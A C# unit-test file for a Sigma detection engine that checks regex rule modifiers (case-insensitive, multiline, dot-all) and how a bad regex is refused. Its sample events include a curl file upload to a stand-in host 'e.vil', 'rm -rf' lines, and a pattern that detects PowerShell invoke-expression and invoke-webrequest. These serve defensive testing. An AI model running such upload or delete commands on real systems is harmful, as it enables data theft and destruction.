using static Bulwark.Scanners.Detection.Tests.Sigma.SigmaTestKit;

namespace Bulwark.Scanners.Detection.Tests.Sigma;

/// <summary><c>re</c> and its sub-modifiers i, m and s.</summary>
public sealed class RegexModifierTests
{
    [Fact]
    public void Re_finds_the_expression_anywhere_and_with_case()
    {
        var rule = Compile("""
            selection:
                CommandLine|re: '\s-[FTd]\s'
            condition: selection
            """);

        Assert.True(rule.Matches(Event(("CommandLine", "curl -F file=@x http://e.vil"))));
        Assert.False(rule.Matches(Event(("CommandLine", "curl -f http://e.vil"))));
    }

    [Fact]
    public void Re_with_i_ignores_case()
    {
        var rule = Compile("""
            selection:
                CommandLine|re|i: 'invoke-(expression|webrequest)'
            condition: selection
            """);

        Assert.True(rule.Matches(Event(("CommandLine", "INVOKE-WEBREQUEST x"))));
        Assert.False(rule.Matches(Event(("CommandLine", "invoke-command"))));
    }

    [Fact]
    public void Re_with_m_lets_anchors_match_at_each_line()
    {
        var multiline = Compile("""
            selection:
                Payload|re|m: '^rm -rf'
            condition: selection
            """);
        var plain = Compile("""
            selection:
                Payload|re: '^rm -rf'
            condition: selection
            """);
        var script = Event(("Payload", "cd /\nrm -rf /tmp/x"));

        Assert.True(multiline.Matches(script));
        Assert.False(plain.Matches(script));
    }

    [Fact]
    public void Re_with_s_lets_the_dot_match_a_newline()
    {
        var dotAll = Compile("""
            selection:
                Payload|re|s: 'begin.+end'
            condition: selection
            """);
        var plain = Compile("""
            selection:
                Payload|re: 'begin.+end'
            condition: selection
            """);
        var script = Event(("Payload", "begin\nend"));

        Assert.True(dotAll.Matches(script));
        Assert.False(plain.Matches(script));
    }

    [Fact]
    public void Re_in_a_keyword_search_runs_on_the_whole_line()
    {
        var rule = Compile("""
            keywords:
                '|re': 'session opened for user (root|admin)'
            condition: keywords
            """);

        Assert.True(rule.Matches(Line("sshd[1]: session opened for user root by (uid=0)")));
        Assert.False(rule.Matches(Line("sshd[1]: session opened for user bob by (uid=0)")));
    }

    [Fact]
    public void A_regex_that_does_not_compile_is_refused_with_its_line()
    {
        var problems = Refusals("""
            selection:
                CommandLine|re: '(unclosed'
            condition: selection
            """);

        var problem = Assert.Single(problems);
        Assert.StartsWith("rules/test.yml:9: rule 11111111-1111-4111-8111-111111111111: the regular expression '(unclosed' does not compile", problem, StringComparison.Ordinal);
    }
}
